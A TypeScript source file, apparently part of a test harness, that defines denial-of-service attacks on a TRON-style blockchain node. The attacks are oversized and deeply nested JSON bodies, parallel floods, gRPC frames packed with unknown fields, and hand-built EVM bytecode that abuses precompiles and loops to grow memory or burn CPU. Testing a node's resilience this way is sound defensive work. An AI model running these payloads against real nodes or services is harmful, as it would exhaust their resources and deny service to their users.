/** Requests that are cheap to send, and expensive to read, answer or store. */

import { randomBytes } from "node:crypto";
import { setTimeout as sleep } from "node:timers/promises";
import { toHex } from "../../../src/protocol/bytes.js";
import { ask } from "../ask.js";
import { type Attack, attackerHost, tally } from "../attack.js";
import { grpcCall } from "../grpc-call.js";

type Server = "http" | "jsonrpc";

interface Flood {
	readonly server: Server;
	readonly path: string;
	readonly body: string;
	/** Concurrent requests. */
	readonly parallel: number;
	readonly contentType?: string;
}

/** Repeats a request over several connections. */
function requests(name: string, sends: string, { server, path, body, parallel, contentType }: Flood): Attack {
	return {
		name,
		sends,
		async run({ ports }, durationMs) {
			const outcomes: string[] = [];
			const end = Date.now() + durationMs;
			const one = async (n: number): Promise<void> => {
				while (Date.now() < end) {
					const options = {
						host: attackerHost(n),
						timeoutMs: 30_000,
						headers: { "content-type": contentType ?? "application/json" },
					};
					outcomes.push(await ask(ports[server], path, body, options).then(shorten, describe));
					await sleep(20);
				}
			};
			await Promise.all(Array.from({ length: parallel }, (_, n) => one(n)));
			return tally(outcomes);
		},
	};
}

const shorten = (text: string): string => {
	const error = /"message":"([^"]{0,40})/.exec(text)?.[1] ?? /"Error":"([^"]{0,40})/.exec(text)?.[1];
	return error ? `refused (${error})` : "answered";
};
const describe = (error: Error): string => `closed (${error.message})`;

const rpc = (method: string, params: string): string =>
	`{"jsonrpc":"2.0","id":1,"method":"${method}","params":${params}}`;

const digits = "7".repeat(4_000_000);

/** A contract creation as JSON. @param name JSON-escaped */
function creationNamed(name: string): string {
	const value = `{"owner_address":"41${"11".repeat(20)}","new_contract":{"name":"${name}"}}`;
	const url = "type.googleapis.com/protocol.CreateSmartContract";
	const contract = `{"type":"CreateSmartContract","parameter":{"type_url":"${url}","value":${value}}}`;
	return `{"raw_data":{"contract":[${contract}]},"signature":[]}`;
}

const grpcUnknown: Attack = {
	name: "grpc-unknown-fields",
	sends: "gRPC calls of 4 MB of unknown fields",
	async run({ ports }, durationMs) {
		const message = Buffer.alloc(4_000_000);
		for (let at = 0; at + 3 <= message.length; at += 3) message.set([0xc0, 0x3e, 0x01], at);
		const frame = Buffer.concat([
			Buffer.of(0),
			uint32(message.length - (message.length % 3)),
			message.subarray(0, message.length - (message.length % 3)),
		]);
		const outcomes: string[] = [];
		const end = Date.now() + durationMs;
		while (Date.now() < end) {
			outcomes.push(await grpcCall(ports.grpc, "/protocol.Wallet/GetAccount", frame));
			await sleep(20);
		}
		return tally(outcomes);
	},
};

function uint32(value: number): Buffer {
	const bytes = Buffer.alloc(4);
	bytes.writeUInt32BE(value);
	return bytes;
}

const nestedBatches: Attack = {
	name: "jsonrpc-nested",
	sends: "batches of 20,000 calls in nested lists, each asking for a filter",
	async run({ ports }, durationMs) {
		const call = rpc("eth_newFilter", "[{}]");
		const inner = `[${Array(200).fill(call).join(",")}]`;
		const body = `[${Array(100).fill(inner).join(",")}]`;
		const outcomes: string[] = [];
		const end = Date.now() + durationMs;
		while (Date.now() < end) {
			outcomes.push(
				await ask(ports.jsonrpc, "/jsonrpc", body, { host: attackerHost(1) }).then(shorten, describe),
			);
			await sleep(20);
		}
		const honest = await ask(ports.jsonrpc, "/jsonrpc", rpc("eth_newFilter", "[{}]"));
		return `${tally(outcomes)}; an honest filter is ${/"result":"0x/.test(honest) ? "given" : "refused"}`;
	},
};

const bodies: Attack = {
	name: "bodies-parallel",
	sends: "40 bodies of 15.9 MB at once",
	async run({ ports }, durationMs) {
		const body = `{"value":"${"a".repeat(15_900_000)}"}`;
		const outcomes: string[] = [];
		const end = Date.now() + durationMs;
		while (Date.now() < end) {
			const all = Array.from({ length: 40 }, (_, n) =>
				ask(ports.http, "/wallet/getaccount", body, { host: attackerHost(n), timeoutMs: 30_000 }).then(
					shorten,
					describe,
				),
			);
			outcomes.push(...(await Promise.all(all)));
		}
		return tally(outcomes);
	},
};

const members = `{${Array.from({ length: 350_000 }, (_, n) => `"m${n}":${n}`).join(",")}}`;
const addresses = `[{"fromBlock":"0x0","toBlock":"latest","address":[${Array.from({ length: 80_000 }, () => `"0x${toHex(randomBytes(20))}"`).join(",")}]}]`;

const unknownHex = (): string => {
	const bytes = Buffer.alloc(2_000_000);
	for (let at = 0; at + 3 <= bytes.length; at += 3) bytes.set([0xc0, 0x3e, 0x01], at);
	return bytes.subarray(0, bytes.length - (bytes.length % 3)).toString("hex");
};

const blocks = (server: Server, path: string, body: string, name: string, sends: string): Attack =>
	requests(name, sends, { server, path, body, parallel: 8 });

/** A constant call that runs creation code. */
export function constantCall(code: string): string {
	return JSON.stringify({
		owner_address: "410000000000000000000000000000000000000001",
		data: code,
		call_value: 0,
	});
}

/**
 * Creation code that calls a precompile with a list of `count` entries, all being the same long string.
 * @param precompile 0x09 or 0x0a
 */
export function overlapping(precompile: number, count: number, bytes: number): string {
	const push = (value: number): string => `63${value.toString(16).padStart(8, "0")}`;
	const table = 0x80;
	const end = table + 32 + 32 * count;
	const store = (value: string, at: string): string => `${value}${at}52`;
	// memory: hash, offset of signatures, offset of addresses, then count and offsets, all to one long entry.
	const head =
		precompile === 9
			? store(push(table), push(0x20)) + store(push(table), push(0x40))
			: store(push(table), push(0x60));
	const counted = store(push(count), push(table));
	const length = store(push(bytes), push(end));
	// for (i = 0; i < count; i++) mstore(table + 32 + 32 i, end - table - 32)
	const loop = [
		"6000", // i
		"5b", // loop:
		push(end - table - 32),
		"81", // dup2: i
		"6020",
		"02",
		push(table + 32),
		"01",
		"52", // mstore
		"6001",
		"01", // i + 1
		push(count),
		"81",
		"10", // i < count
	].join("");
	const before = head + counted + length;
	const target = before.length / 2 + 2;
	const jump = `61${target.toString(16).padStart(4, "0")}57`;
	const call = `${push(32)}6000${push(end + 32 + bytes)}6000${"6000"}73${precompile.toString(16).padStart(40, "0")}${push(90_000_000)}f1`;
	return `${before}${loop}${jump}${call}00`;
}

const call = (name: string, sends: string, code: string, parallel = 2): Attack =>
	requests(name, sends, {
		server: "http",
		path: "/wallet/triggerconstantcontract",
		body: constantCall(code),
		parallel,
	});

/** Calls identity with the word at 0, and output at the given offset: memory grows without charge. */
const identityTo = (outOffset: string): string => `6000${outOffset}6020600060006004${"61ffff"}f150`;

/** for (i = 4 MiB; ; i += 1024) identity(32 bytes) to i */
const farPages = `624000005b${identityTo("81")}61040001600456`;

/** Expands memory to 3 MB, starting with this code, and creates a contract from all of it. */
const nestedCreations = `${identityTo("622fffe0")}604060006000396230000060006000f000`;

export const servers: readonly Attack[] = [
	requests("json-digits", "a JSON-RPC parameter of 4 M digits", {
		server: "jsonrpc",
		path: "/jsonrpc",
		body: rpc("eth_call", `[${digits}]`),
		parallel: 2,
	}),
	requests("json-digits-http", "an HTTP body with a number of 4 M digits", {
		server: "http",
		path: "/wallet/getaccount",
		body: `{"address":${digits}}`,
		parallel: 2,
	}),
	requests("json-id", "a JSON-RPC id of 4 MB", {
		server: "jsonrpc",
		path: "/jsonrpc",
		body: `{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":"${"i".repeat(4_000_000)}"}`,
		parallel: 2,
	}),
	requests("json-brackets", "4,000 times 450 brackets", {
		server: "jsonrpc",
		path: "/jsonrpc",
		body: `[${Array(4000)
			.fill("[".repeat(450) + "]".repeat(450))
			.join(",")}]`,
		parallel: 2,
	}),
	requests("json-escapes", "transactions whose name is 2 M escapes", {
		server: "http",
		path: "/wallet/broadcasttransaction",
		body: creationNamed("\\\\".repeat(2_000_000)),
		parallel: 2,
	}),
	requests("form-escapes", "form bodies of 1.3 M escapes", {
		server: "http",
		path: "/wallet/getaccount",
		body: `address=${"%41".repeat(1_300_000)}`,
		parallel: 8,
		contentType: "application/x-www-form-urlencoded",
	}),
	requests("json-members", "HTTP bodies of 350,000 members", {
		server: "http",
		path: "/wallet/getaccount",
		body: members,
		parallel: 2,
	}),
	requests("json-members-rpc", "JSON-RPC bodies with an object of 350,000 members", {
		server: "jsonrpc",
		path: "/jsonrpc",
		body: rpc("eth_call", `[${members}]`),
		parallel: 2,
	}),
	nestedBatches,
	bodies,
	requests("logs-addresses", "eth_getLogs with 80,000 addresses", {
		server: "jsonrpc",
		path: "/jsonrpc",
		body: rpc("eth_getLogs", addresses),
		parallel: 2,
	}),
	blocks(
		"http",
		"/wallet/getblockbylimitnext",
		'{"startNum":40,"endNum":71}',
		"blocks-by-range",
		"8 queries at once of 30 blocks of 450 KB",
	),
	blocks(
		"http",
		"/wallet/getblockbylatestnum",
		'{"num":99}',
		"blocks-latest",
		"8 queries at once of the latest 99 blocks, 30 of them of 450 KB",
	),
	blocks(
		"jsonrpc",
		"/jsonrpc",
		`[${Array.from({ length: 30 }, (_, n) => rpc("eth_getBlockByNumber", `["0x${(41 + n).toString(16)}",true]`)).join(",")}]`,
		"blocks-batch",
		"8 batches at once of 30 eth_getBlockByNumber",
	),
	requests("broadcast-hex", "broadcasthex of 2 MB of unknown fields", {
		server: "http",
		path: "/wallet/broadcasthex",
		body: JSON.stringify({ transaction: unknownHex() }),
		parallel: 2,
	}),
	grpcUnknown,
	call(
		"call-signatures",
		"a constant call that gives 0x09 a list of 32,768 entries of 1.5 MB, all one",
		overlapping(9, 32_768, 1_500_000),
	),
	call("call-multisign", "the same with 0x0a and 4,096 entries of 100 KB", overlapping(10, 4096, 100_000)),
	call("call-output", "8 constant calls at once that return 3 MB each", "62300000" + "6000f3", 8),
	call(
		"call-far",
		"constant calls that write a word each KiB beyond 4 MiB, by a precompile that pays no memory",
		farPages,
	),
	call("call-creations", "constant calls that nest creations whose code is 3 MB of zeros", nestedCreations),
	call("call-loop", "16 constant calls at once that loop until their time ends", "5b600056", 16),
];
